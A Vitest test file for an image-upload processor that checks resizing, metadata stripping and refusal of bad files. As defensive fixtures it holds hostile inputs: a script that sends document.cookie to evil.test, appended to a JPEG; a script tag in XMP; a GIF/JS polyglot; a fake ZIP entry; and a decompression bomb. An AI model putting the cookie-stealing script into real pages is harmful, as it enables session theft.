import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  BMP_HEADER,
  PLANTED,
  SVG,
  UNUSUAL_ENCODINGS,
  makeAnimatedWebp,
  makeAvif,
  makeDisplayP3Jpeg,
  makeGif,
  makeJpeg,
  makeJpegWithXmp,
  makeOrientedJpegWithGps,
  makePng,
  makePngBomb,
  makeTiff,
  makeWebp,
  readPixel,
} from './image-fixtures';
import { ImageRejected, MAX_UPLOAD_BYTES, processUpload, type ImageProblem } from './image-processing';

/** The problem an upload is refused for, or `accepted`. */
async function verdictOn(data: Buffer, declaredType: string): Promise<ImageProblem | 'accepted'> {
  try {
    await processUpload(data, declaredType);
    return 'accepted';
  } catch (error) {
    if (error instanceof ImageRejected) return error.problem;
    throw error;
  }
}

async function describeOutput(image: Buffer) {
  const { format, width, height, exif, icc, xmp, iptc, pages } = await sharp(image).metadata();
  return { format, width, height, exif, icc, xmp, iptc, pages: pages ?? 1 };
}

describe('processUpload renditions', () => {
  it('fits a big photo within 1280×1280 and crops a 320×320 thumb, both WebP', async () => {
    const result = await processUpload(await makeJpeg(2000, 1500), 'image/jpeg');
    expect(result).toMatchObject({ width: 1280, height: 960 });
    expect(await describeOutput(result.large)).toMatchObject({ format: 'webp', width: 1280, height: 960 });
    expect(await describeOutput(result.thumb)).toMatchObject({ format: 'webp', width: 320, height: 320 });
  });

  it('never enlarges a small photo, but still makes a full-size thumb', async () => {
    const result = await processUpload(await makeJpeg(300, 1000), 'image/jpeg');
    expect(await describeOutput(result.large)).toMatchObject({ width: 300, height: 1000 });
    expect(await describeOutput(result.thumb)).toMatchObject({ width: 320, height: 320 });
  });

  it('accepts PNG with transparency and WebP', async () => {
    const png = await processUpload(await makePng(800, 600), 'image/png');
    expect(await describeOutput(png.large)).toMatchObject({ format: 'webp', width: 800, height: 600 });
    const webp = await processUpload(await makeWebp(600, 800), 'image/webp');
    expect(await describeOutput(webp.large)).toMatchObject({ format: 'webp', width: 600, height: 800 });
  });

  it.each(Object.entries(UNUSUAL_ENCODINGS))('accepts %s as an sRGB WebP', async (_name, { type, make }) => {
    const { large } = await processUpload(await make(), type);
    expect(await sharp(large).metadata()).toMatchObject({ format: 'webp', space: 'srgb', width: 400, height: 300 });
  });

  it('reads the declared type without regard to case or parameters', async () => {
    expect(await verdictOn(await makeJpeg(400, 400), 'Image/JPEG; charset=binary')).toBe('accepted');
  });

  it('keeps only the first frame of an animation', async () => {
    const result = await processUpload(await makeAnimatedWebp(400, 300), 'image/webp');
    expect(await describeOutput(result.large)).toMatchObject({ width: 400, height: 300, pages: 1 });
    expect(await readPixel(result.large, 200, 150)).toEqual([expect.closeTo(255, -1), expect.closeTo(0, -1), expect.closeTo(0, -1)]);
  });
});

describe('processUpload metadata', () => {
  it('drops EXIF and GPS and turns the photo upright per EXIF orientation 6', async () => {
    const upload = await makeOrientedJpegWithGps();
    const input = await sharp(upload).metadata();
    expect(input.orientation).toBe(6);
    expect(input.exif?.toString('latin1')).toContain(PLANTED.datum); // the GPS directory is really there

    const result = await processUpload(upload, 'image/jpeg');
    for (const image of [result.large, result.thumb]) {
      expect(await describeOutput(image)).toMatchObject({ exif: undefined, icc: undefined, xmp: undefined, iptc: undefined });
      for (const planted of Object.values(PLANTED)) expect(image.includes(planted)).toBe(false);
    }
    expect(result).toMatchObject({ width: 400, height: 600 });
    // The blue square stored top-left must now be top-right.
    expect(await readPixel(result.large, 350, 50)).toEqual([expect.closeTo(0, -1), expect.closeTo(0, -1), expect.closeTo(255, -1)]);
    expect(await readPixel(result.large, 50, 50)).not.toEqual(await readPixel(result.large, 350, 50));
  });

  it('drops XMP, whatever it carries', async () => {
    const xmp = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>steal()</script></x:xmpmeta>';
    const upload = await makeJpegWithXmp(xmp);
    expect((await sharp(upload).metadata()).xmp).toBeDefined();
    const { large } = await processUpload(upload, 'image/jpeg');
    expect((await describeOutput(large)).xmp).toBeUndefined();
    expect(large.includes('steal()')).toBe(false);
  });

  it('converts a Display P3 photo to sRGB and keeps no profile', async () => {
    const upload = await makeDisplayP3Jpeg();
    expect((await sharp(upload).metadata()).hasProfile).toBe(true);
    const { large } = await processUpload(upload, 'image/jpeg');
    expect((await describeOutput(large)).icc).toBeUndefined();
    // Pure sRGB red went in; read without its profile the P3 file is a duller red.
    expect(await readPixel(large, 200, 200)).toEqual([expect.closeTo(255, -1), expect.closeTo(0, -1), expect.closeTo(0, -1)]);
  });
});

describe('processUpload polyglots', () => {
  it('re-encodes a JPEG with a script and a ZIP appended, leaving neither behind', async () => {
    const script = '<script>fetch("https://evil.test/?c="+document.cookie)</script>';
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('payload.exe:MZ-planted-zip-entry')]);
    const upload = Buffer.concat([await makeJpeg(600, 600), Buffer.from(script), zip]);

    const result = await processUpload(upload, 'image/jpeg');
    for (const image of [result.large, result.thumb]) {
      expect(image.includes(script)).toBe(false);
      expect(image.includes('<script')).toBe(false);
      expect(image.includes('planted-zip-entry')).toBe(false);
      expect(image.includes(Buffer.from([0x50, 0x4b, 0x03, 0x04]))).toBe(false);
    }
  });

  it('refuses a GIF/JS polyglot as an unsupported type', async () => {
    const polyglot = Buffer.concat([await makeGif(300, 300), Buffer.from('*/=1;alert(1)//')]);
    expect(await verdictOn(polyglot, 'image/gif')).toBe('photo_unsupported_type');
    expect(await verdictOn(polyglot, 'image/png')).toBe('photo_unsupported_type');
  });
});

describe('processUpload refusals', () => {
  it('refuses text and an empty file as not an image', async () => {
    expect(await verdictOn(Buffer.from('Dear diary, today I met someone.\n'.repeat(50)), 'image/jpeg')).toBe('photo_not_an_image');
    expect(await verdictOn(Buffer.alloc(0), 'image/png')).toBe('photo_not_an_image');
  });

  it('refuses truncated JPEG and PNG files as not an image', async () => {
    const jpeg = await makeJpeg(800, 800);
    expect(await verdictOn(jpeg.subarray(0, jpeg.length / 2), 'image/jpeg')).toBe('photo_not_an_image');
    const png = await sharp({ create: { width: 800, height: 800, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
      .png()
      .toBuffer();
    expect(await verdictOn(png.subarray(0, png.length / 2), 'image/png')).toBe('photo_not_an_image');
  });

  it('refuses a declared type that disagrees with the bytes', async () => {
    expect(await verdictOn(await makeJpeg(400, 400), 'image/png')).toBe('photo_unsupported_type');
    expect(await verdictOn(await makePng(400, 400), 'image/webp')).toBe('photo_unsupported_type');
  });

  it('refuses a declared type outside JPEG, PNG and WebP', async () => {
    expect(await verdictOn(await makeJpeg(400, 400), 'application/octet-stream')).toBe('photo_unsupported_type');
    expect(await verdictOn(await makeJpeg(400, 400), 'constructor')).toBe('photo_unsupported_type');
  });

  it('refuses GIF, SVG, HEIF/AVIF, TIFF and BMP as unsupported types', async () => {
    expect(await verdictOn(await makeGif(400, 400), 'image/gif')).toBe('photo_unsupported_type');
    expect(await verdictOn(SVG, 'image/svg+xml')).toBe('photo_unsupported_type');
    expect(await verdictOn(SVG, 'image/png')).toBe('photo_unsupported_type');
    expect(await verdictOn(await makeAvif(400, 400), 'image/jpeg')).toBe('photo_unsupported_type');
    expect(await verdictOn(await makeTiff(400, 400), 'image/jpeg')).toBe('photo_unsupported_type');
    expect(await verdictOn(BMP_HEADER, 'image/jpeg')).toBe('photo_unsupported_type');
  });

  it('refuses a file over 10 MB as too large', async () => {
    expect(await verdictOn(Buffer.alloc(11 * 1024 * 1024), 'image/jpeg')).toBe('photo_too_large');
    expect(await verdictOn(Buffer.alloc(MAX_UPLOAD_BYTES + 1), 'image/jpeg')).toBe('photo_too_large');
  });

  it('refuses a decompression bomb from its header, in well under a second', async () => {
    const bomb = makePngBomb(20_000);
    expect(bomb.length).toBeLessThan(100 * 1024);
    const started = performance.now();
    expect(await verdictOn(bomb, 'image/png')).toBe('photo_too_large');
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('refuses an image under 200 pixels on its shorter side as too small', async () => {
    expect(await verdictOn(await makeJpeg(100, 100), 'image/jpeg')).toBe('photo_too_small');
    expect(await verdictOn(await makePng(1000, 199), 'image/png')).toBe('photo_too_small');
    expect(await verdictOn(await makeWebp(200, 200), 'image/webp')).toBe('accepted');
  });

  it('tells the reason in a typed error', async () => {
    const error = await processUpload(Buffer.from('hello'), 'image/jpeg').catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(ImageRejected);
    expect(error).toMatchObject({ name: 'ImageRejected', problem: 'photo_not_an_image' });
  });
});
